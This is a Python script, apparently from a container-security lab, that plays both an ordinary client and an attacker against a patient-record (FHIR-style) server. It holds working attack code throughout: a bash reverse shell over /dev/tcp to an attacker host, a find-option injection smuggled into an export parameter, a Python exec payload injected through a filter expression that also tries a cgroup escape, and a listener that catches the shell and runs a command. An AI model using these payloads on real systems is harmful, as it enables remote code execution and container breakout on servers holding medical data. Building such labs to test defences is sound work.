#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0-only
"""Everybody who is not in the container: a client, and an attacker.

usage: outside.py ordinary|injection|escape

Prints one line for each thing that happened: who, what, and what came of it,
with tabs between them.
"""

import json
import socket
import sys
import threading
from urllib.parse import quote

SERVER = ("10.20.0.2", 8080)
ATTACKER = ("10.20.0.66", 4444)

# Long enough for a slow machine; waited for only where nobody comes.
PATIENCE = 60

# What an attacker would type: bash, wired to the attacker's machine.
SHELL = f"exec bash 0<>/dev/tcp/{ATTACKER[0]}/{ATTACKER[1]} 1>&0 2>&1"

# Options of find: run that shell for the first file found.
INJECTION = f"Patient-1.json -exec bash -c '{SHELL}' ; -o -name none"

# Python that runs in the server itself and needs no other program.
ESCAPE = f"""
import os, subprocess
def shell(when):
    try:
        subprocess.run(["/bin/bash", "-c", {SHELL!r}])
        print(when, "bash: has run", flush=True)
    except OSError as error:
        print(when, "bash:", error.strerror, flush=True)
shell("in its cgroup:")
with open("/sys/fs/cgroup/cgroup.procs", "w") as procs:
    procs.write("0")
with open("/proc/self/cgroup") as cgroup:
    print("cgroup now:", cgroup.read().strip(), flush=True)
shell("outside:")
"""


def tell(*words):
    print(*words, sep="\t", flush=True)


def get(path):
    """A request; its status and resource, or 0 and an OperationOutcome."""
    request = f"GET {path} HTTP/1.0\r\nHost: {SERVER[0]}\r\n\r\n"
    reply = b""
    with socket.create_connection(SERVER, PATIENCE) as connection:
        connection.sendall(request.encode())
        while True:
            try:
                part = connection.recv(65536)
            except OSError:
                break
            if not part:
                break
            reply += part
    head, _, body = reply.partition(b"\r\n\r\n")
    if not head.startswith(b"HTTP/"):
        return 0, {}
    return int(head.split()[1]), json.loads(body)


def diagnostics(resource):
    return " ".join(issue["diagnostics"] for issue in resource.get("issue", []))


def ordinary():
    """What the server is there for."""
    status, patient = get("/Patient/1")
    name = patient.get("name", [{}])[0]
    tell("client", "GET /Patient/1", status, name.get("family"))
    expression = quote("patient['gender'] == 'male'")
    status, bundle = get("/Patient?_filter=" + expression)
    tell("client", "GET /Patient?_filter=...", status, bundle.get("total"))
    status, bundle = get("/$export?_type=Patient")
    tell("client", "GET /$export?_type=Patient", status, bundle.get("total"))


class Listener(threading.Thread):
    """Waits for a shell, and runs a command in it."""

    def __init__(self):
        super().__init__()
        self.listener = socket.create_server(ATTACKER)
        self.output = None

    def run(self):
        try:
            shell, _ = self.listener.accept()
        except OSError:
            return
        with shell:
            shell.settimeout(PATIENCE)
            shell.sendall(b"id; exit\n")
            output = b""
            while part := shell.recv(4096):
                output += part
        self.output = " ".join(output.decode(errors="replace").split())

    def close(self):
        # Wakes accept(), which close() alone would not.
        try:
            self.listener.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass
        self.join()
        self.listener.close()


def attack(what, path):
    listener = Listener()
    listener.start()
    status, resource = get(path)
    # The server answers when the shell has come and gone, or never came.
    listener.close()
    tell("attacker", what, status, diagnostics(resource))
    tell("attacker", "reverse shell", listener.output or "none")


def main():
    if sys.argv[1:] == ["ordinary"]:
        ordinary()
    elif sys.argv[1:] == ["injection"]:
        attack("GET /$export?_type=...", "/$export?_type=" + quote(INJECTION))
        ordinary()
    elif sys.argv[1:] == ["escape"]:
        once = f"patient['id'] == '1' and exec({ESCAPE!r})"
        path = "/Patient?_filter=" + quote(once)
        attack("GET /Patient?_filter=...", path)
        ordinary()
    else:
        sys.exit(__doc__)


if __name__ == "__main__":
    main()
